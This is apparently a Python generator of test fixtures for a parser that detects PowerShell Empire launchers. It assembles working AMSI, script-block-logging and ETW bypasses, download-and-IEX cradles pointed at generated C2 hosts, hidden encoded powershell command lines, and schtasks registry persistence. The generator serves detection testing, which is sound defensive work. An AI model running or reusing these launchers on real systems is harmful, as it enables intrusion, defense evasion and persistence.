#!/usr/bin/env python3
"""Synthetic PowerShell Empire launchers for the stager tests.

Writes JSON lines, one launcher per line:

  {"generation": ..., "wrapper": ..., "script": <decoded launcher>,
   "cmdline": <command line as a log shows it>, "expected": {...}}

`expected` holds the fields ioc::stager::parse_empire_stager must return
(variant, ua, server, server_encoding, uris, staging_key, cookie_name,
session_cookie, cookie_decoded, proxy, bypasses, tls_validation_disabled,
custom_headers). For the "schtasks" wrapper the launcher lives in the
registry, so the line has no script and `expected` only holds `persistence`
(what the command line says) and `registry_payload` (the key, the base64
value stored there, and its encoding).

Each generation's launcher is assembled from pieces: code pieces, whose
letters are randomly capitalised for generations that do that, and value
pieces (quoted strings, the cookie, the key), which never change case.
Stdlib only; the same --seed always gives the same output.

  python3 tests/gen/empire_gen.py --count 60 --seed 1 > tests/data/empire-launchers.jsonl
"""

import argparse
import base64
import json
import random
import string
import sys

GENERATIONS = ["2.0", "2.2-2.4", "2.5-dev", "bc-3.x-5.x", "6.3+"]
WRAPPERS = [
    "none",
    "full_path",
    "cmd_c",
    "comspec_start",
    "comspec_splunk",
    "smbexec",
    "schtasks",
    "win_hidden",
    "nop_noni_hidden",
    "noni_hidden_bypass",
]

DEFAULT_UA = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
USER_AGENTS = [
    DEFAULT_UA,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/58.0.3029.110 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.3; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:68.0) Gecko/20100101 Firefox/68.0",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
    "Microsoft-CryptoAPI/10.0",
]
DEFAULT_URIS = ["/admin/get.php", "/news.php", "/login/process.php"]
URI_WORDS = ["api", "static", "content", "images", "update", "cdn", "v2", "assets", "status",
             "check"]
URI_EXTS = [".php", ".aspx", ".js", ".gif", ".html", ""]
DOMAIN_WORDS = ["update", "cdn", "secure", "mail", "portal", "sync", "cloud", "static", "login",
                "office"]
DOMAIN_MIDS = ["microsoft-update", "windowsdefender", "akamai-edge", "corp-backup", "jquery-cdn",
               "officeapps", "telemetry", "azure-sync"]
TLDS = ["com", "net", "org", "info", "xyz", "io"]
HEADER_CHOICES = ["Host", "Referer", "Accept-Language", "X-Forwarded-For", "Accept"]

# Printable staging-key characters: no space, no quotes, no backtick, no '$'.
KEY_CHARS = "".join(c for c in string.printable[:94] if c not in "'\"`$")

RC4_BLOCK = ("$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;"
             "$S[$_],$S[$J]=$S[$J],$S[$_]};$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;"
             "$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};")


def rc4(key, data):
    """RC4 (KSA + PRGA), written out for the generator."""
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) % 256
        s[i], s[j] = s[j], s[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + s[i]) % 256
        s[i], s[j] = s[j], s[i]
        out.append(byte ^ s[(s[i] + s[j]) % 256])
    return bytes(out)


def launcher_cookie(rng, staging_key):
    """base64(IV[4] || RC4(IV || key, "00000000" 01 01 0000 00000000))."""
    iv = bytes(rng.randrange(256) for _ in range(4))
    header = b"00000000" + bytes([1, 1]) + (0).to_bytes(2, "little") + (0).to_bytes(4, "little")
    return base64.b64encode(iv + rc4(iv + staging_key.encode("ascii"), header)).decode("ascii")


class Script:
    """A launcher as pieces: ('c', code) may change case, ('v', value) never does."""

    def __init__(self):
        self.pieces = []

    def c(self, text):
        self.pieces.append(("c", text))
        return self

    def v(self, text):
        self.pieces.append(("v", text))
        return self

    def q(self, value, quote="'"):
        return self.v(quote + value + quote)

    def render(self, rng, randomize):
        out = []
        for kind, text in self.pieces:
            if kind == "c" and randomize:
                text = "".join(ch.upper() if rng.random() < 0.5 else ch.lower() for ch in text)
            out.append(text)
        return "".join(out)


def rand_key(rng):
    if rng.random() < 0.3:
        return "".join(rng.choice("0123456789abcdef") for _ in range(32))
    return "".join(rng.choice(KEY_CHARS) for _ in range(32))


def rand_host(rng):
    if rng.random() < 0.5:
        return "%d.%d.%d.%d" % (rng.randint(11, 223), rng.randint(0, 255), rng.randint(0, 255),
                                rng.randint(1, 254))
    name = rng.choice(DOMAIN_MIDS)
    if rng.random() < 0.5:
        name = rng.choice(DOMAIN_WORDS) + "." + name
    return name + "." + rng.choice(TLDS)


def rand_server(rng):
    scheme = rng.choice(["http", "https"])
    server = scheme + "://" + rand_host(rng)
    if rng.random() < 0.6:
        server += ":" + str(rng.choice([80, 443, 8080, 8443, rng.randint(1024, 65535)]))
    return server


def rand_uri(rng):
    if rng.random() < 0.6:
        return rng.choice(DEFAULT_URIS)
    parts = [rng.choice(URI_WORDS) for _ in range(rng.randint(1, 3))]
    return "/" + "/".join(parts) + rng.choice(URI_EXTS)


def rand_var(rng):
    """Empire 2.5-style variable name: 4-5 hex-ish characters."""
    return "".join(rng.choice("0123456789abcdef") for _ in range(rng.randint(4, 5)))


def rand_letters(rng, lo, hi):
    return "".join(rng.choice(string.ascii_letters) for _ in range(rng.randint(lo, hi)))


def rand_headers(rng):
    headers = []
    for name in rng.sample(HEADER_CHOICES, rng.choice([0, 0, 1, 2])):
        if name == "Host":
            value = rand_host(rng)
            while value[0].isdigit():
                value = rand_host(rng)
        elif name == "Referer":
            value = "http://" + rand_host(rng) + "/"
        elif name == "Accept-Language":
            value = rng.choice(["en-US", "en-GB,en;q=0.8", "de-DE"])
        elif name == "X-Forwarded-For":
            value = "%d.%d.%d.%d" % tuple(rng.randint(1, 254) for _ in range(4))
        else:
            value = rng.choice(["*/*", "text/html"])
        headers.append((name, value))
    return headers


def rand_proxy(rng):
    """(kind, url, creds_kind, user, password)."""
    kind = rng.choice(["default", "default", "default", "none", "null", "explicit"])
    if kind == "explicit":
        url = "http://%s:%d" % (rng.choice(["proxy.corp.local", "10.0.0.5", "webproxy.internal"]),
                                rng.choice([3128, 8080, 80]))
        creds = rng.choice(["default", "explicit", "none"])
        return kind, url, creds, rand_letters(rng, 4, 8), rand_letters(rng, 6, 12)
    if kind == "default":
        return kind, "", rng.choice(["default", "default", "default", "none"]), "", ""
    return kind, "", "none", "", ""


def add_proxy(s, wc, proxy):
    kind, url, creds, user, password = proxy
    if kind == "default":
        s.c("$%s.Proxy=[System.Net.WebRequest]::DefaultWebProxy;" % wc)
    elif kind == "none":
        s.c("$%s.Proxy=[System.Net.GlobalProxySelection]::GetEmptyWebProxy();" % wc)
    elif kind == "null":
        s.c("$%s.Proxy = $null;" % wc)
    else:
        s.c("$proxy=New-Object Net.WebProxy(").q(url).c(");$%s.Proxy = $proxy;" % wc)
    if creds == "default":
        s.c("$%s.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials;" % wc)
    elif creds == "explicit":
        s.c("$netcred = New-Object System.Net.NetworkCredential(").q(user).c(",").q(password)
        s.c(");$%s.Proxy.Credentials = $netcred;" % wc)


def proxy_expected(proxy):
    kind, url, creds, _, _ = proxy
    mode = {"default": "default", "none": "none", "null": "none", "explicit": "explicit"}[kind]
    return {"mode": mode, "url": url, "creds": creds}


def add_sbl_bypass_22(s):
    s.c("If($PSVersionTable.PSVersion.Major -ge 3){$GPS=[ref].Assembly.GetType(")
    s.q("System.Management.Automation.Utils").c(')."GetFie`ld"(').q("cachedGroupPolicySettings")
    s.c(",").q("N").c("+").q("onPublic,Static").c(").GetValue($null);If($GPS[")
    s.q("ScriptB").c("+").q("lockLogging").c("]){$GPS[").q("ScriptB").c("+").q("lockLogging")
    s.c("][").q("EnableScriptB").c("+").q("lockLogging").c("]=0;$GPS[").q("ScriptB").c("+")
    s.q("lockLogging").c("][").q("EnableScriptBlockInvocationLogging").c("]=0}Else{[ScriptBlock].")
    s.c('"GetFie`ld"(').q("signatures").c(",").q("N").c("+").q("onPublic,Static")
    s.c(").SetValue($null,(New-Object Collections.Generic.HashSet[string]))}")
    s.c("[Ref].Assembly.GetType(").q("System.Management.Automation.AmsiUtils")
    s.c(")|?{$_}|%{$_.GetField(").q("amsiInitFailed").c(",").q("NonPublic,Static")
    s.c(").SetValue($null,$true)};};")


def add_sbl_bypass_25(s, v1, v2):
    s.c("If($PSVersionTable.PSVersion.Major -ge 3){$%s=[ref].Assembly.GetType(" % v1)
    s.q("System.Management.Automation.Utils").c(')."GetFie`ld"(').q("cachedGroupPolicySettings")
    s.c(",").q("N").c("+").q("onPublic,Static").c(");If($%s){$%s=$%s.GetValue($null);If($%s["
                                                    % (v1, v2, v1, v2))
    s.q("ScriptB").c("+").q("lockLogging").c("]){$%s[" % v2).q("ScriptB").c("+").q("lockLogging")
    s.c("][").q("EnableScriptB").c("+").q("lockLogging").c("]=0;$%s[" % v2).q("ScriptB").c("+")
    s.q("lockLogging").c("][").q("EnableScriptBlockInvocationLogging").c("]=0}")
    s.c("$val=[Collections.Generic.Dictionary[string,System.Object]]::new();$val.Add(")
    s.q("EnableScriptB").c("+").q("lockLogging").c(",0);$val.Add(")
    s.q("EnableScriptBlockInvocationLogging").c(",0);$%s[" % v2)
    s.q("HKEY_LOCAL_MACHINE\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptB")
    s.c("+").q("lockLogging").c("]=$val}Else{[ScriptBlock].")
    s.c('"GetFie`ld"(').q("signatures").c(",").q("N").c("+").q("onPublic,Static")
    s.c(").SetValue($null,(New-Object Collections.Generic.HashSet[string]))}")
    s.c("$Ref=[Ref].Assembly.GetType(").q("System.Management.Automation.Amsi").c("+").q("Utils")
    s.c(");$Ref.GetField(").q("amsiInitF").c("+").q("ailed").c(",").q("NonPublic,Static")
    s.c(").SetValue($null,$true);};")


def add_amsi_etw_bc(s, rng):
    s.c("If($PSVersionTable.PSVersion.Major -ge 3){$Ref=[Ref].Assembly.GetType(")
    if rng.random() < 0.5:
        s.q("System.Management.Automation.AmsiUtils")
    else:
        s.q("System.Management.Automation.Amsi").c("+").q("Utils")
    s.c(");$Ref.GetField(").q("amsiInitFailed").c(",").q("NonPublic,Static")
    s.c(").Setvalue($Null,$true);[System.Diagnostics.Eventing.EventProvider].GetField(")
    s.q("m_enabled").c(",").q("NonPublic,Instance").c(").SetValue([Ref].Assembly.GetType(")
    s.q("System.Management.Automation.Tracing.PSEtwLogProvider").c(").GetField(")
    s.q("etwProvider").c(",").q("NonPublic,Static").c(").GetValue($null),0);};")


def add_tls(s):
    s.c("[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true};")


def add_headers(s, wc, headers):
    for name, value in headers:
        s.c("$%s.Headers.Add(" % wc).q(name, '"').c(",").q(value, '"').c(");")


def add_cookie(s, wc, name, value):
    s.c("$%s.Headers.Add(" % wc).q("Cookie", '"').c(",").q(name + "=" + value, '"').c(");")


def server_b64(server):
    return base64.b64encode(server.encode("utf-16-le")).decode("ascii")


def make_launcher(rng, generation, botsv2=False):
    """Returns (script, expected)."""
    key = rand_key(rng)
    server = rand_server(rng)
    uri = rand_uri(rng)
    ua = rng.choice(USER_AGENTS)
    if botsv2:
        server, uri, ua = "https://45.77.65.211:443", "/admin/get.php", DEFAULT_UA
    proxy = rand_proxy(rng)
    headers = rand_headers(rng)
    tls = server.startswith("https") and rng.random() < 0.6
    s = Script()
    randomize = generation in ("2.0", "2.2-2.4", "2.5-dev")
    bypasses = ["amsi"]
    server_encoding = "plain"
    cookie_name = "session"
    wc = "wc"

    if generation == "2.0":
        s.c("[Ref].Assembly.GetType(").q("System.Management.Automation.AmsiUtils")
        s.c(")|?{$_}|%{$_.GetField(").q("amsiInitFailed").c(",").q("NonPublic,Static")
        s.c(").SetValue($null,$true)};")
    elif generation == "2.2-2.4":
        add_sbl_bypass_22(s)
        bypasses.append("scriptblock_logging")
    elif generation == "2.5-dev":
        v1, v2 = rand_var(rng), rand_var(rng)
        while v2 == v1:
            v2 = rand_var(rng)
        wc = rand_var(rng)
        while wc in (v1, v2):
            wc = rand_var(rng)
        add_sbl_bypass_25(s, v1, v2)
        bypasses.append("scriptblock_logging")
    else:
        add_amsi_etw_bc(s, rng)
        bypasses.append("etw")
    if tls:
        add_tls(s)

    if generation in ("2.5-dev", "bc-3.x-5.x", "6.3+"):
        cookie_name = rand_letters(rng, 4, 16)
        server_encoding = "base64_utf16le"

    s.c("[System.Net.ServicePointManager]::Expect100Continue=0;$%s=New-Object System.Net.WebClient;"
        "$u=" % wc).q(ua).c(";")
    if server_encoding == "base64_utf16le":
        s.c("$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String(")
        s.q(server_b64(server)).c(")));$t=").q(uri).c(";")
    s.c("$%s.Headers.Add(" % wc).q("User-Agent").c(",$u);")
    add_headers(s, wc, headers)
    add_proxy(s, wc, proxy)
    if generation in ("2.5-dev", "bc-3.x-5.x", "6.3+"):
        s.v("$Script:Proxy = $%s.Proxy;" % wc)

    if generation == "6.3+":
        cookie = base64.b64encode(bytes(rng.randrange(256) for _ in range(rng.choice([28, 36, 44])))
                                  ).decode("ascii")
        add_cookie(s, wc, cookie_name, cookie)
        s.c("$data=$%s.DownloadData($ser+$t);" % wc)
        s.c("IEX ([Text.Encoding]::UTF8.GetString($data))")
        staging = ""
        decoded = None
    else:
        s.c("$K=[System.Text.Encoding]::ASCII.GetBytes(").q(key).c(");")
        s.c(RC4_BLOCK)
        cookie = launcher_cookie(rng, key)
        add_cookie(s, wc, cookie_name, cookie)
        if server_encoding == "plain":
            s.c("$ser=").q(server).c(";$t=").q(uri).c(";")
        # 2.0 really writes $WC here: PowerShell variables ignore case.
        s.c("$data=$%s.DownloadData($ser+$t);" % (wc.upper() if generation == "2.0" else wc))
        s.c("$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX")
        staging = key
        decoded = {"session_id": "00000000", "language": 1, "meta": 1, "additional": 0,
                   "length": 0, "verified": True}

    expected = {
        "variant": generation,
        "ua": ua,
        "server": server,
        "server_encoding": server_encoding,
        "uris": [uri],
        "staging_key": staging,
        "cookie_name": cookie_name,
        "session_cookie": cookie,
        "cookie_decoded": decoded,
        "proxy": proxy_expected(proxy),
        "bypasses": bypasses,
        "tls_validation_disabled": tls,
        "custom_headers": ["%s: %s" % h for h in headers],
    }
    return s.render(rng, randomize), expected


PS_FULL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
PS_START = "C:\\Windows\\System32\\WindowsPowershell\\v1.0\\powershell"


def enc_blob(script):
    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")


def make_cmdline(rng, wrapper, script):
    """Returns (cmdline, persistence or None, registry_payload or None)."""
    blob = enc_blob(script)
    sp = rng.choice([" ", "  "])
    launcher = "-noP -sta -w 1 -enc" + sp + blob
    if wrapper == "none":
        return "powershell " + launcher, None, None
    if wrapper == "full_path":
        return '"%s" %s' % (PS_FULL, launcher), None, None
    if wrapper == "cmd_c":
        shell = rng.choice(["cmd", "cmd.exe", "C:\\Windows\\System32\\cmd.exe"])
        return "%s /c powershell.exe %s" % (shell, launcher), None, None
    if wrapper == "comspec_start":
        return "%%COMSPEC%% /C start /b %s %s" % (PS_START, launcher), None, None
    if wrapper == "comspec_splunk":
        return ('"C:\\Windows\\System32\\cmd.exe" /c %%%%COMSPEC%%%% /C start /b %s %s'
                % (PS_START, launcher)), None, None
    if wrapper == "smbexec":
        return '%%COMSPEC%% /C "%%COMSPEC%% /C start /b %s %s"' % (PS_START, launcher), None, None
    if wrapper == "win_hidden":
        return '"%s" -Win Hidden -enc%s%s' % (PS_FULL, sp, blob), None, None
    if wrapper == "nop_noni_hidden":
        return '"%s" -NoP -NonI -W Hidden -enc%s%s' % (PS_FULL, sp, blob), None, None
    if wrapper == "noni_hidden_bypass":
        return "powershell.exe -NonI -W Hidden -NoP -Exec Bypass -Enc " + blob, None, None
    assert wrapper == "schtasks"
    elevated = rng.random() < 0.5
    if elevated:
        key = "HKLM:\\Software\\Microsoft\\Network"
    else:
        key = "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion"
    value_name = rng.choice(["debug", "Updater", rand_letters(rng, 5, 8)])
    task = rng.choice(["Updater", "WindowsUpdate", "OneDriveSync", rand_letters(rng, 6, 10)])
    schedule = rng.choice(["DAILY", "DAILY", "ONLOGON", "ONIDLE"])
    start_time = None
    parts = ['"C:\\Windows\\system32\\schtasks.exe" /Create /F']
    if elevated:
        parts.append("/RU system")
    if schedule == "DAILY":
        start_time = "%02d:%02d" % (rng.randint(0, 23), rng.randint(0, 59))
        parts.append("/SC DAILY /ST " + start_time)
    elif schedule == "ONIDLE":
        parts.append("/SC ONIDLE /I %d" % rng.randint(1, 30))
    else:
        parts.append("/SC ONLOGON")
    parts.append("/TN " + task)
    loader = ("IEX ([Text.Encoding]::UNICODE.GetString([Convert]::FromBase64String("
              "(gp %s %s).%s)))" % (key, value_name, value_name))
    parts.append('/TR "%s -NonI -W hidden -c \\"%s\\""' % (PS_FULL, loader))
    persistence = {
        "mechanism": "schtasks",
        "task_name": task,
        "schedule": schedule,
        "start_time": start_time,
        "run_as": "system" if elevated else None,
        "key": key,
        "value_name": value_name,
    }
    payload = {"key": key, "value": blob, "encoding": "base64_utf16le"}
    return " ".join(parts), persistence, payload


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--count", type=int, default=60)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--generation", choices=GENERATIONS)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    for i in range(args.count):
        if args.generation:
            generation, wrapper = args.generation, WRAPPERS[i % len(WRAPPERS)]
        else:
            # Generation g takes wrappers from 2g on, so that with 60 lines every
            # generation meets every wrapper and every wrapper appears 6 times.
            g = i % len(GENERATIONS)
            generation = GENERATIONS[g]
            wrapper = WRAPPERS[(i // len(GENERATIONS) + 2 * g) % len(WRAPPERS)]
        script, expected = make_launcher(rng, generation, botsv2=(i == 0))
        cmdline, persistence, payload = make_cmdline(rng, wrapper, script)
        line = {"generation": generation, "wrapper": wrapper}
        if persistence:
            line["cmdline"] = cmdline
            line["expected"] = {"persistence": persistence, "registry_payload": payload}
        else:
            line["script"] = script
            line["cmdline"] = cmdline
            line["expected"] = expected
        sys.stdout.write(json.dumps(line) + "\n")


if __name__ == "__main__":
    main()
